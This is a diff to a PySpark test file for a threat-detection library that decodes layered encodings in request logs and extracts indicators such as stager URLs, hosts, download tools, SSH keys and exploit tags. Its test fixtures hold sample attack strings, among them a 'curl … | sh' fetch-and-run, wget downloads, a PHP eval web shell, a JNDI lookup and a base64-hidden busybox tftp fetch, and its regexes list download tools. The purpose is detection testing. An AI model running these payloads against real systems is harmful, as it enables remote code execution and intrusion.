@@ -2,11 +2,12 @@
 
 import base64
 import re
-from urllib.parse import quote
+from urllib.parse import quote, unquote_to_bytes
 
 import pytest
 from pyspark.sql import functions as F
 
+from harrow.functions.columns import path_shape
 from harrow.operators import evidence as E
 from harrow.streaming.streams import sampled
 
@@ -128,37 +129,35 @@ def test_ladder(spark):
 
 
 def brute_opened(text, depth):
-    """Every layer's pieces, as the operator defines them."""
+    """Every layer as (text, depth, via), as the operator defines them."""
     printable = re.compile(r"[\x09\x0A\x0D\x20-\x7E\u00A0-\uFFFF]+")
-    out, at = [text], text
-    for _ in range(depth):
-        pieces = []
-        if "%" in at:
-            plain = at
-            from urllib.parse import unquote_to_bytes
-
-            for _ in range(2):
+    out, front = [(text, 0, "")], [(text, "")]
+    for level in range(1, depth + 1):
+        found = []
+        for at, via in front:
+            pieces = []
+            if "%" in at:
+                plain = at
+                for _ in range(2):
+                    try:
+                        plain = unquote_to_bytes(plain.replace("+", " ")).decode()
+                    except UnicodeDecodeError:
+                        break
+                pieces.append((plain, "percent"))
+            raw = [(bytes.fromhex(m.replace("\\x", "")), "escape") for m in re.findall(r"((?:\\x[0-9a-fA-F]{2}){4,})", at)] + [(bytes.fromhex(m), "hex") for m in re.findall(r"\b((?:[0-9a-fA-F]{2}){8,})\b", at)]
+            for m in re.findall(r"([A-Za-z0-9+/]{16,}={0,2})", at):
+                m = m.rstrip("=")
+                m = m[:-1] if len(m) % 4 == 1 else m
+                raw.append((base64.b64decode(m + "=" * (-len(m) % 4)), "base64"))
+            for b, how in raw:
                 try:
-                    plain = unquote_to_bytes(plain.replace("+", " ")).decode()
+                    pieces.append((b.decode(), how))
                 except UnicodeDecodeError:
-                    break
-            pieces.append(plain)
-        raw = [bytes.fromhex(m.replace("\\x", "")) for m in re.findall(r"((?:\\x[0-9a-fA-F]{2}){4,})", at)] + [bytes.fromhex(m) for m in re.findall(r"\b((?:[0-9a-fA-F]{2}){8,})\b", at)]
-        for m in re.findall(r"([A-Za-z0-9+/]{16,}={0,2})", at):
-            m = m.rstrip("=")
-            m = m[:-1] if len(m) % 4 == 1 else m
-            raw.append(base64.b64decode(m + "=" * (-len(m) % 4)))
-        for b in raw:
-            try:
-                pieces.append(b.decode())
-            except UnicodeDecodeError:
-                pass
-        pieces = [p for p in pieces if p != at and printable.fullmatch(p)]
-        out += pieces
-        at = "\n".join(pieces)
-        if not at:
-            break
-    return list(dict.fromkeys(out))
+                    pass
+            found += [(p, f"{via}>{how}" if via else how) for p, how in pieces if p != at and printable.fullmatch(p)]
+        front = list(dict.fromkeys(found))
+        out += [(p, level, via) for p, via in front]
+    return out
 
 
 def b64(s):
@@ -184,20 +183,81 @@ PAYLOADS = [
 def test_layers(spark):
     df = spark.createDataFrame(list(enumerate(PAYLOADS)), "id long, text string")
     for r in df.where("text IS NOT NULL").select("text", E.opened_layers(F.col("text")).alias("x")).collect():
-        assert r["x"] == brute_opened(r["text"], E.DEPTH), r["text"]
+        assert list(map(tuple, r["x"])) == brute_opened(r["text"], E.DEPTH), r["text"]
+
+
+URL = r"(?i)\b((?:https?|ftp)://[a-z0-9.-]+(?::[0-9]+)?(?:/[^\s\"'<>;|)]*)?)"
+RUNS = [
+    ("GET", "/a", None, f"x={b64('wget http://one.net/x; echo http://said.org/y')}", "203.0.113.9"),
+    ("POST", "/cgi/run.php", "cmd=1&b[]=2&bad name=3&cmd=4", "curl http://198.51.100.7/p | sh; wget http://203.0.113.9/self && ping http://named.net/", "203.0.113.9"),
+    ("PUT", "/up/12345", "", "body", "203.0.113.9"),
+    ("PUT", "/up/2", "", "", None),
+    ("GET", "/x", "q=1", "<?php eval($_POST['a']); include 'http://shared.com/raw/k?t=1'; ?>", None),
+    ("GET", "/y", None, "see http://one.net/other and curl http://one.net/x", None),
+    ("GET", "/z", None, "wget http://10.1.2.3/a; wget http://localhost/b; wget http://2130706433/c; wget http://w3.never/d; wget http://a..b/e; wget http://172.20.0.1/f", None),
+    ("GET", "/t", None, quote(quote("fetch ftp://deep.net/z")) + " ssh-ed25519 " + "B" * 30, None),
+    ("GET", "/j", None, b64("look: ${jndi:ldap} " + b64("busybox tftp http://in.net/in")), None),
+    ("GET", "/k", None, "one. wget\nhttp://nextline.net/", None),
+    ("GET", None, None, None, None),
+]
+
+
+def brute_indicators(rows, shared, never, exploits, names):
+    def host(u):
+        return re.search("://([^/:]+)", u)[1].lower()
+
+    def joinable(h):
+        if any(h == n or h.endswith("." + n) for n in never):
+            return False
+        if re.fullmatch(r"([0-9]{1,3}\.){3}[0-9]{1,3}", h):
+            return not re.match(E.NOT_PUBLIC, h)
+        last = h.rsplit(".", 1)[-1]
+        return "." in h and not re.search(r"^\.|\.\.|\.$", h) and not re.fullmatch("[0-9]+|0x.*", last) and not any(h == n or h.endswith("." + n) for n in E.LOCAL_NAMES)
+
+    out = {}
+    for i, (method, path, query, text, sender) in enumerate(rows):
+        layers = brute_opened(text or "", E.DEPTH)
+        found = []
+        for t, depth, via in layers:
+            staged = [u for m in re.findall(E.FETCHED, t) for u in re.findall(URL, m.split("&&")[0])]
+            for u in re.findall(URL, t):
+                role = "queried" if u not in staged or not joinable(host(u)) else "self-hosted" if host(u) == sender else "stager"
+                found.append((depth, via, "url", role, u))
+                if host(u) not in shared:
+                    found.append((depth, via, "host", role, host(u)))
+            found += [(depth, via, "tool", "tag", m.lower()) for m in re.findall(E.TOOLS, t)] + [(depth, via, "ssh-key", "key", m) for m in re.findall(E.SSH_KEY, t)]
+            found += [(depth, via, "exploit", "exploit", n) for n, p in exploits if re.search(p, t, re.I)]
+            if i in names and (staged or re.search(E.EXECUTED, t) or method == "PUT" and depth == 0 and t):
+                found.append((depth, via, "exploit", "exploit", names[i]))
+        kept = {v for _, _, kind, role, v in found if kind == "host" and role in ("stager", "self-hosted")}
+        for depth, via, kind, role, v in found:
+            if not (kind == "host" and role == "queried" and v in kept):
+                out[i, kind, role, v] = min(out.get((i, kind, role, v), (depth, via)), (depth, via))
+    return {(*k, *v) for k, v in out.items()}
 
 
 def test_indicators(spark):
+    df = spark.createDataFrame([(i, *r) for i, r in enumerate(RUNS)], "id long, method string, path string, query string, text string, sender string")
+    exploits = [("jndi", r"\$\{jndi:"), ("php-eval", r"\beval\(")]
+    names = {0: "GET /a", 1: "POST /cgi/run.php ?b[] cmd", 2: "PUT /up/{n}", 4: "GET /x ?q", 5: "GET /y", 6: "GET /z", 7: "GET /t", 8: "GET /j"}
+    shapes = {r["id"]: r["s"] for r in df.where("path IS NOT NULL").select("id", path_shape(F.col("path")).alias("s")).collect()}
+    names[2] = f"PUT {shapes[2]}"
+    found = E.extract_indicators(df, "text", ["id"], ("shared.com",), ("w3.never",), "sender", exploits, ("method", "path", "query"))
+    assert found.columns == ["id", "kind", "role", "value", "depth", "via"]
+    got = set(map(tuple, found.collect()))
+    assert got == brute_indicators(RUNS, {"shared.com"}, ["w3.never"], exploits, names)
+    roles = {(i, kind, role, value) for i, kind, role, value, *_ in got}
+    assert {(0, "host", "stager", "one.net"), (0, "host", "queried", "said.org"), (1, "host", "self-hosted", "203.0.113.9"), (1, "host", "stager", "198.51.100.7"), (1, "host", "queried", "named.net")} <= roles
+    assert {(4, "url", "stager", "http://shared.com/raw/k?t=1"), (4, "exploit", "exploit", "php-eval"), (7, "host", "stager", "deep.net"), (8, "exploit", "exploit", "jndi"), (2, "exploit", "exploit", names[2])} <= roles
+    assert (5, "host", "queried", "one.net") not in roles and {r for i, k, r, _ in roles if i == 6 and k == "host"} == {"queried"}
+    assert {d for i, _, _, v, d, _ in got if i == 8 and v == "in.net"} == {2} and not [x for x in roles if x[0] in (3, 10)]
+
+
+def test_indicators_of_payloads_alone(spark):
     df = spark.createDataFrame(list(enumerate(PAYLOADS)), "id long, text string")
-    found = {(r["id"], r["kind"], r["value"]) for r in E.extract_indicators(df, "text", ["id"], ("two.test",)).collect()}
-    want = set()
-    for i, t in enumerate(PAYLOADS):
-        text = "\n".join(brute_opened(t, E.DEPTH)) if t else ""
-        urls = re.findall(r"(?i)\b((?:https?|ftp)://[a-z0-9.-]+(?::[0-9]+)?(?:/[^\s\"'<>;|)]*)?)", text)
-        want |= {(i, "url", u) for u in urls} | {(i, "host", h) for u in urls if (h := re.search("://([^/:]+)", u)[1].lower()) != "two.test"}
-        want |= {(i, "tool", m.lower()) for m in re.findall(r"(?i)\b(wget|curl|busybox|tftp)\b", text)} | {(i, "ssh-key", m) for m in re.findall(r"(ssh-(?:rsa|ed25519) [A-Za-z0-9+/=]{20,})", text)}
-    assert found == want
-    assert {(3, "host", "deep.test"), (1, "url", "http://two.test/y"), (6, "host", "six.test"), (11, "host", "long.test")} <= found
+    got = set(map(tuple, E.extract_indicators(df, "text", ["id"], ("two.test",)).collect()))
+    assert got == brute_indicators([("GET", "/", None, t, None) for t in PAYLOADS], {"two.test"}, [], [], {})
+    assert {(3, "host", "deep.test"), (1, "url", "http://two.test/y"), (6, "host", "six.test"), (11, "host", "long.test")} <= {(i, k, v) for i, k, _, v, *_ in got}
 
 
 def test_sampling():
